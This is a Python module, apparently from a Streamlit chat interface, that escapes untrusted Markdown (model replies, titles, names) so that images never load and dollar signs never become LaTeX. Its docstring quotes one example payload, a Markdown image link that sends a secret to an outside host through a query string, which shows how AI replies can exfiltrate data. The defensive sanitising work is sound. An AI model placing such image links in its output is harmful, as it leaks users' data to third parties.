"""Untrusted text (model output, thread titles, assistant and user names) for Streamlit's Markdown.

Streamlit renders Markdown images, so `![](http://host/?q=secret)` in a reply would make every
browser that shows it fetch that address; text between two `$` signs becomes LaTeX. Raw HTML is
already escaped by Streamlit (unsafe_allow_html stays off).

- `safe_markdown`: keeps bold, lists, links, tables and code; every `![` loses its image meaning
  (shown as typed) and `$` stays a dollar. Code blocks are left as they are.
- `plain`: for titles, buttons and headers: no Markdown at all.
- `inline_code`: text shown as one code span whatever backticks it holds.
"""
from __future__ import annotations

import re
import string
from functools import lru_cache
from typing import Iterable, Iterator

from markdown_it import MarkdownIt

ASCII_PUNCTUATION = set(string.punctuation)   # what CommonMark lets a backslash escape
LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+$")   # markdown-it's own line breaks
# Block markers a fence may follow on its line: indentation, quotes, list bullets and numbers.
BLOCK_MARKERS = re.compile(r"^(?:[ \t]*(?:>|[-*+]|\d{1,9}[.)])(?=[ \t]|$))*[ \t]*")
PLAIN_SPECIAL = re.compile(r"([\\`*_\[\]<>$~:|&#])")


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    # Parsing only, to find code blocks the way a CommonMark renderer does (Streamlit's is one).
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _code_lines(text: str) -> set[int]:
    """Indexes of the lines inside fenced or indented code blocks."""
    lines: set[int] = set()
    for token in _parser().parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(*token.map))
    return lines


def _may_become_a_fence(partial_line: str) -> bool:
    rest = partial_line[BLOCK_MARKERS.match(partial_line).end():]
    return rest == "" or rest[0] in "`~"


def _escape_line(line: str, partial: bool) -> str:
    """Escape one line of text outside code blocks. With `partial`, the line is still arriving:
    stop before anything the next characters could change (a backslash, a `!`, a backtick run
    or an unclosed code span), so what was returned stays a prefix of the final result."""
    out: list[str] = []
    i, n = 0, len(line)
    while i < n:
        char = line[i]
        if char == "\\":
            if i + 1 == n and partial:
                break
            if i + 1 < n and line[i + 1] in ASCII_PUNCTUATION:   # already escaped: keep as is
                out.append(line[i:i + 2])
                i += 2
                continue
            out.append(char)
        elif char == "`":
            run = len(line[i:]) - len(line[i:].lstrip("`"))
            opener = "`" * run
            close = _closing_run(line, i + run, run)
            if partial and (i + run == n or close == -1 or close + run == n):
                break   # the run may grow, or the span may close later on this line
            if close == -1:   # no closing run: the backticks are literal
                out.append(opener)
                i += run
                continue
            # A code span shows its content as typed. `![` is escaped even here: parsers differ
            # on where a span ends (tables, autolinks), and an image must never slip through.
            out.append(opener + line[i + run:close].replace("![", "!\\[") + opener)
            i = close + run
            continue
        elif char == "$":
            out.append("\\$")
        elif char == "!":
            if i + 1 == n and partial:
                break
            out.append("!\\[" if line[i + 1:i + 2] == "[" else "!")
            i += 2 if line[i + 1:i + 2] == "[" else 1
            continue
        else:
            out.append(char)
        i += 1
    return "".join(out)


def _closing_run(line: str, start: int, run: int) -> int:
    """Where the next backtick run of exactly `run` backticks begins at or after `start`, or -1."""
    for match in re.finditer(r"`+", line[start:]):
        if len(match.group()) == run:
            return start + match.start()
    return -1


def safe_markdown(text: str, partial: bool = False) -> str:
    """Markdown for `text` that loads nothing remote and keeps `$` a dollar.

    `partial=True` while a reply is still streaming in: the result stops before any text whose
    rendering the next characters could still change.
    """
    lines = LINE.findall(text)
    code = _code_lines(text)
    out: list[str] = []
    for index, line in enumerate(lines):
        still_arriving = partial and index == len(lines) - 1 and not line.endswith(("\n", "\r"))
        if still_arriving and _may_become_a_fence(line):
            break
        if index in code:
            out.append(line)
        else:
            out.append(_escape_line(line, still_arriving))
    return "".join(out)


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """Turn streamed text deltas into deltas of its safe Markdown (for st.write_stream).

    What has been yielded is always `safe_markdown` of some prefix of the text. In the rare case
    where later text changes how earlier text renders (so the new result no longer extends what
    was shown), the rest is held back: the caller draws the finished message again.
    """
    text, shown, stalled = "", "", False
    for delta in deltas:
        text += delta
        if stalled:
            continue
        rendered = safe_markdown(text, partial=True)
        if rendered.startswith(shown):
            if len(rendered) > len(shown):
                yield rendered[len(shown):]
                shown = rendered
        else:
            stalled = True
    if not stalled:
        final = safe_markdown(text)
        if final.startswith(shown) and len(final) > len(shown):
            yield final[len(shown):]


def plain(text: str) -> str:
    """`text` for a title, button or header: shown as typed, no Markdown, on one line."""
    text = " ".join(str(text).split())
    escaped = PLAIN_SPECIAL.sub(r"\\\1", text)
    # A leading list marker or heading would be taken as a block and unwrapped.
    return re.sub(r"^(\d+)([.)])|^([-+=])", lambda m: (m.group(1) or "") + "\\" + (m.group(2) or m.group(3)),
                  escaped)


def inline_code(text: str) -> str:
    """`text` as one Markdown code span (content shown as typed) whatever backticks it holds."""
    text = " ".join(str(text).splitlines())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"
